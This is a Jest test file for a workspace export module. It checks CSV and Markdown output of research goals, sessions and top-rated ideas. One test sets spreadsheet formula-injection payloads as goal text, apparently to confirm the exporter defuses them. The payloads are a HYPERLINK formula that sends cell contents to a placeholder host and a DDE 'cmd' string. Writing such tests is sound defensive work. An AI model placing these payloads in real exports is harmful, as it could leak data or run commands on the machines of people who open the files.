import Papa from 'papaparse';
import {
  buildGoalsExport,
  buildWorkspaceExport,
  goalsToCsv,
  goalsToMarkdown,
  workspaceToMarkdown,
  type ExportGoal,
} from './workspace-export';

const NOW = new Date(2026, 10, 22, 9, 30);
const workspace = {
  id: 'w1',
  name: 'Soil lab',
  description: 'Drought work',
  createdAt: '2026-11-01T00:00:00Z',
  updatedAt: '2026-11-02T00:00:00Z',
};
const goal = (overrides: Partial<ExportGoal> = {}): ExportGoal => ({
  id: 'g1',
  title: 'Drought-tolerant microbes',
  description: 'Find them',
  status: 'draft',
  workspaceId: 'w1',
  parameters: { numberOfIdeas: 8, rounds: 3 },
  createdAt: '2026-11-03T00:00:00Z',
  ...overrides,
});

describe('goals exports', () => {
  it('CSV names the workspace and the parameters', () => {
    const [row] = Papa.parse<Record<string, string>>(goalsToCsv([goal()], new Map([['w1', 'Soil lab']])), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(row).toMatchObject({
      title: 'Drought-tolerant microbes',
      numberOfIdeas: '8',
      rounds: '3',
      workspace: 'Soil lab',
      status: 'Draft',
    });
  });

  it('CSV defuses formulas in goal text even across lines, and keeps numeric parameters numbers', () => {
    const title = '=HYPERLINK("https://tracker.invalid/?d="&A1,"Open")\nDrought';
    const description = "+cmd|' /C calc'!A0\r\nsecond line";
    const csv = goalsToCsv(
      [goal({ title, description, parameters: { numberOfIdeas: -1, rounds: '-2+3\n' } })],
      new Map([['w1', '@SUM(1)\nlab']]),
    );
    const [row] = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    expect(row).toMatchObject({
      title: `'${title}`,
      description: `'${description}`,
      numberOfIdeas: '-1',
      rounds: `'-2+3\n`,
      workspace: `'@SUM(1)\nlab`,
    });
  });

  it('markdown lists each goal', () => {
    const md = goalsToMarkdown([goal(), goal({ id: 'g2', title: 'Second', parameters: {} })], NOW);
    expect(md).toContain('## Drought-tolerant microbes');
    expect(md).toContain('- Rounds: 3');
    expect(md).toContain('## Second');
  });

  it('files are named with the date', () => {
    expect(buildGoalsExport('csv', [goal()], undefined, NOW).fileName).toBe('goals-2026-11-22.csv');
    expect(buildGoalsExport('md', [goal()], undefined, NOW).fileName).toBe('goals-2026-11-22.md');
  });
});

describe('workspaceToMarkdown', () => {
  const input = {
    workspace,
    goals: [goal()],
    sessions: [
      {
        id: 's1',
        sessionName: 'Session | one',
        status: 'completed',
        createdAt: '2026-11-04T00:00:00Z',
        stats: { numIdeas: 12, avgEloRating: 1234.4 },
      },
    ],
    topIdeas: [
      {
        id: 'i1',
        title: 'Best idea',
        summary: '',
        status: 'reviewed',
        eloRating: 3000,
        noveltyScore: 1,
        correctnessScore: 1,
        feasibilityScore: 1,
        createdAt: '2026-11-04T00:00:00Z',
      },
    ],
  };

  it('has the workspace, its goals, sessions and top-rated ideas', () => {
    const md = workspaceToMarkdown(input, NOW);
    expect(md.startsWith('# Soil lab\n\nDrought work\n')).toBe(true);
    expect(md).toContain('### Drought-tolerant microbes');
    expect(md).toContain('| Session \\| one | Completed | 12 | 1234 |');
    expect(md).toContain('1. Best idea (Elo 3000, 5 of 5 stars)');
  });

  it('writes goal statuses in words', () => {
    const md = workspaceToMarkdown({ ...input, goals: [goal({ status: 'generating_ideas' })] }, NOW);
    expect(md).toContain('- Status: Generating ideas');
    expect(md).not.toContain('generating_ideas');
  });

  it('says so when a section is empty', () => {
    const md = workspaceToMarkdown({ workspace, goals: [], sessions: [], topIdeas: [] }, NOW);
    expect(md).toContain('No research goals.');
    expect(md).toContain('No sessions.');
    expect(md).toContain('No rated ideas yet.');
    expect(buildWorkspaceExport(input, NOW).fileName).toBe('workspace-2026-11-22.md');
  });
});
